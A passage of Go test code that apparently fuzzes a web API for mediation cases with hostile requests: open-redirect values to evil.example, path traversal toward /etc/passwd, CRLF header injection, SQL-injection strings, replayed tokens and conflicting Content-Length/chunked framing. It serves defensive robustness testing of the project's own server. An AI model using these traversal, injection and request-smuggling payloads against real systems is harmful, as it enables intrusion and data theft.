		"back=https:%2F%2Fevil.example", "back=%2F%5Cevil.example", "token=" + h.deadToken, "x=" + strings.Repeat("%ff", 3000)}
	all := slices.Concat(queries, other)
	if !strings.HasPrefix(r.path, "/api/") {
		// A page: the queries pages read, and two of the others.
		all = []string{queries[2], queries[11], other[2], other[4], other[6]}
		if r.path == "/lang" {
			all = append(all, other...)
		}
	}
	var senders []string
	for _, who := range []string{"mediator", "a1", "admin", "anon"} {
		if !h.audited[[2]string{r.key(), who}] {
			senders = append(senders, who) // else a read it may do would write its audit
		}
	}
	for i, q := range all {
		add(hsReq{kind: "Query", who: senders[i%len(senders)], method: r.method, target: r.fill(h.valid) + "?" + q})
	}
}

// bodies sends bad bodies to a route that takes one.
func (h *hostile) bodies(r hsRoute, add func(hsReq)) {
	f := h.form(r)
	senders := []string{f.capable}
	if f.bodyless {
		senders = f.outsiders
	}
	if senders[0] != "anon" && !f.bodyless {
		senders = append(senders, "anon")
	}
	target := r.fill(h.valid)
	bodies := hsBodies(f.valid)
	if f.valid == "" && !f.bodyless {
		// Not a JSON route this test knows (a page's form): a few.
		bodies = slices.DeleteFunc(bodies, func(b hsBody) bool {
			return !slices.Contains([]string{"Truncated", "Over1MiB", "Nested100kArrays", "InvalidUTF8Value", "Form", "Multipart", "NoType"}, b.name)
		})
	}
	for i, b := range bodies {
		add(hsReq{kind: "Body:" + b.name, who: senders[i%len(senders)], method: r.method, target: target, ctype: b.ctype, body: b.body})
	}
	if f.bodyless || len(f.strings)+len(f.ids) == 0 {
		return
	}
	for _, p := range hsPayloads {
		add(hsReq{kind: "Payload", who: f.capable, method: r.method, target: target, ctype: hsJSON, body: hsPayloadBody(f, p)})
	}
}

// methods sends every path the methods it was not registered with, and HEAD
// and OPTIONS.
func (h *hostile) methods(add func(hsReq)) {
	registered := map[string][]hsRoute{}
	for _, r := range h.routes {
		registered[r.path] = append(registered[r.path], r)
	}
	turn := 0
	for _, path := range slices.Sorted(maps.Keys(registered)) {
		rs := registered[path]
		var ctype string
		var body []byte
		for _, r := range rs {
			if f := h.form(r); f.valid != "" {
				ctype, body = hsJSON, []byte(f.valid)
			}
		}
		route := rs[0]
		for _, m := range []string{"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "FOO"} {
			if slices.ContainsFunc(rs, func(r hsRoute) bool { return r.method == m }) {
				continue
			}
			who := []string{"mediator", "a1", "anon", "admin"}[turn%4]
			turn++
			if (m == "HEAD" || m == "OPTIONS") && h.audited[[2]string{"GET " + path, who}] {
				who = "anon" // HEAD may be answered as GET, which would be an audited read
			}
			add(hsReq{kind: "Method", who: who, method: m, target: route.fill(h.valid), ctype: ctype, body: body})
		}
	}
}

// traversal sends paths that try to step out of their route.
func (h *hostile) traversal(add func(hsReq)) {
	s := h.s
	a, b := s.caseA, s.caseB
	turn := 0
	for _, target := range []string{
		"/api/v1/cases/..%2f..%2fetc", "/api/v1/cases/..%2F..%2Fetc%2Fpasswd", "/api/v1/cases/1/../../users",
		"/api/v1/cases/" + a + "/../../users", "/api/v1/cases/%2e%2e/%2e%2e/users", "/api/v1/cases/" + b + "/../" + a,
		"/api/v1/cases/" + a + "/parties/..%2f..%2f..%2fusers", "/api/v1/./users", "//api/v1/users", "/api/v1//users",
		"/API/V1/USERS", "/api/v1/users/", "/api/v1/users;jsessionid=1", "/api/v1/users%00", "/api/v1/users%2f",
		"/api/v1/cases/" + a + "%00", "/api/v1/cases/" + a + "%0d%0aX-Injected:%20yes", "/api/v1/cases/%ff%fe",
		"/api/v1/cases/" + a + "/submissions/..%2f" + s.subB1, "/api/v1/cases/" + b + "/..%2f" + a + "/parties",
		"/..%2f..%2f..%2fetc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/../../go.mod",
		"/static/%2e%2e%2f%2e%2e%2fgo.mod", "/static/..\\..\\go.mod", "/a/..%2f..%2fapi%2fv1%2fusers",
		"/api/v1/cases/%252e%252e%252f", "/api/v1/cases/" + strings.Repeat("1", 8000), "/api/v1/cases/" + a + "#x",
		"/api/v1/cases/" + a + "/parties?%ff=%fe", "/api/v1/cases/" + a + "/audit/../submissions",
		"/api/v1/cases/" + a + "/submissions/" + s.subA1 + "/../" + s.subA2,
	} {
		turn++
		add(hsReq{kind: "Traversal", who: []string{"anon", "admin", "office", "b1"}[turn%4], method: "GET", target: target})
		add(hsReq{kind: "Traversal", who: "mediator", method: "DELETE", target: target, ctype: hsJSON, body: []byte(`{"reason":"x"}`)})
	}
}

// tokens replays invitation tokens that were replaced, and misspells live ones.
func (h *hostile) tokens(add func(hsReq)) {
	s := h.s
	dead, live := h.deadToken, s.tokenA1
	bodies := []string{dead, dead + " ", " " + dead, strings.ToUpper(dead), dead + "==", dead + "\n",
		strings.NewReplacer("-", "+", "_", "/").Replace(dead), url.PathEscape(dead) + "%00",
		live + " ", " " + live, live + "\n", live + "=", live + "==", hsNonCanonical(live), strings.ToUpper(live),
		strings.ToLower(live), live[:len(live)-1], live + "A", "\u200b" + live, live + "\u0000",
		"' OR 1=1--", strings.Repeat("A", 22), strings.Repeat("A", 64), strings.Repeat("A", 65)}
	for i, tok := range bodies {
		who := []string{"anon", "a2", "mediator"}[i%3]
		add(hsReq{kind: "Token", who: who, method: "POST", target: "/api/v1/access", ctype: hsJSON,
			body: []byte(`{"token":` + jsonText(tok) + `}`)})
		if h.routesWith("/a/") != "" {
			add(hsReq{kind: "Token", who: who, method: "GET", target: "/a/" + url.PathEscape(tok)})
		}
	}
	add(hsReq{kind: "Token", who: "anon", method: "POST", target: "/api/v1/access?token=" + dead, ctype: hsJSON, body: []byte(`{}`)})
	add(hsReq{kind: "Token", who: "anon", method: "POST", target: "/api/v1/access", ctype: hsJSON,
		body: []byte(`{"token":"` + dead + `","token":"` + live + `"}`)})
	add(hsReq{kind: "Token", who: "anon", method: "POST", target: "/api/v1/access", ctype: hsJSON,
		body: []byte(`{"Token":"` + live + `"}`)})
	add(hsReq{kind: "Token", who: "anon", method: "POST", target: "/api/v1/access", ctype: hsJSON,
		body: []byte(`{"token":["` + live + `"]}`)})
}

// routesWith is the first registered path with the prefix, or "".
func (h *hostile) routesWith(prefix string) string {
	for _, r := range h.routes {
		if strings.HasPrefix(r.path, prefix) {
			return r.path
		}
	}
	return ""
}

// protocol sends requests that lie about their own framing.
func (h *hostile) protocol(add func(hsReq)) {
	s := h.s
	valid := `{"title":"新案件","category":"pets","community":"dongfeng","source":"party_application"}`
	post := func(name string, head func(host, cookie string) string, body string, halfClose bool) {
		add(hsReq{kind: "Protocol:" + name, who: "mediator", method: "POST", target: "/api/v1/cases", body: []byte(body),
			halfClose: halfClose, raw: func(host, cookie string) []byte {
				return []byte(head(host, cookie) + body)
			}})
	}
	std := func(extra string) func(host, cookie string) string {
		return func(host, cookie string) string {
			return "POST /api/v1/cases HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n" + cookie +
				"Content-Type: application/json\r\n" + extra + "\r\n"
		}
	}
	post("LengthLongerThanBody", std(fmt.Sprintf("Content-Length: %d\r\n", len(valid)+100)), valid, true)
	post("LengthShorterThanBody", std("Content-Length: 10\r\n"), valid, false)
	post("LengthHuge", std("Content-Length: 1000000000000\r\n"), valid, true)
	post("LengthNegative", std("Content-Length: -1\r\n"), valid, false)
	post("LengthNotANumber", std("Content-Length: 1e3\r\n"), valid, false)
	post("LengthTwice", std(fmt.Sprintf("Content-Length: %d\r\nContent-Length: 5\r\n", len(valid))), valid, false)
	post("LengthAndChunkedDisagree", std(fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(valid))),
		"5\r\n{\"tit\r\n0\r\n\r\n", false)
	post("ChunkSizeNotHex", std("Transfer-Encoding: chunked\r\n"), "zz\r\n"+valid+"\r\n0\r\n\r\n", false)
	post("ChunkedCutShort", std("Transfer-Encoding: chunked\r\n"), fmt.Sprintf("%x\r\n%s", len(valid)+50, valid), true)
	post("ExpectContinueNoBody", std("Content-Length: 500\r\nExpect: 100-continue\r\n"), "", true)
	post("NoHost", func(_, cookie string) string {
		return "POST /api/v1/cases HTTP/1.1\r\nConnection: close\r\n" + cookie + "Content-Type: application/json\r\n" +
			fmt.Sprintf("Content-Length: %d\r\n\r\n", len(valid))
	}, valid[:len(valid)-1], false)

	get := func(name, line string, headers ...string) {
		add(hsReq{kind: "Protocol:" + name, who: "a1", method: "GET", target: line, raw: func(host, cookie string) []byte {
			return []byte(line + "\r\nHost: " + host + "\r\nConnection: close\r\n" + cookie + strings.Join(headers, "") + "\r\n")
		}})
	}
	caseA := "/api/v1/cases/" + s.caseA
	get("RawInvalidUTF8Path", "GET /api/v1/cases/\xff\xfe HTTP/1.1")
	get("RawInvalidUTF8Query", "GET /api/v1/cases?status=\xff\xfe&limit=\xc0 HTTP/1.1")
	get("RawNULInPath", "GET "+caseA+"\x00 HTTP/1.1")
	get("RawSpaceInPath", "GET "+caseA+" x HTTP/1.1")
	get("RawBadPercent", "GET /api/v1/cases/%zz HTTP/1.1")
	get("RawAbsoluteForm", "GET http://evil.example"+caseA+" HTTP/1.1")
	get("RawAsterisk", "OPTIONS * HTTP/1.1")
	get("RawHTTP09", "GET "+caseA)
	get("RawHTTP2Preface", "PRI * HTTP/2.0")
	get("RawLongURL", "GET "+caseA+"?x="+strings.Repeat("a", 1<<20)+" HTTP/1.1")
	get("RawInvalidUTF8Header", "GET "+caseA+" HTTP/1.1", "Accept-Language: \xff\xfe\r\n", "X-Forwarded-For: \xff\r\n")
	get("RawHugeHeader", "GET "+caseA+" HTTP/1.1", "X-Big: "+strings.Repeat("b", 2<<20)+"\r\n")
	get("RawManyLanguages", "GET /api/v1/x HTTP/1.1", "Accept-Language: "+strings.Repeat("zz-ZZ;q=0.5,", 5000)+"\r\n")
	get("RawForwardedFor", "GET /api/v1/x HTTP/1.1", "X-Forwarded-For: ' OR 1=1--, 999.999.999.999, ::ffff:\r\n",
		"X-Real-Ip: <script>\r\n", "Forwarded: for=\"[::1\"\r\n")
	get("RawHeaderCRLFInjection", "GET /api/v1/x HTTP/1.1", "X-A: b\r\n X-Injected: folded\r\n")
	get("RawLangCookie", "GET /api/v1/meta HTTP/1.1", "Cookie: lang=..%2f..%2f%ff\r\n")
}
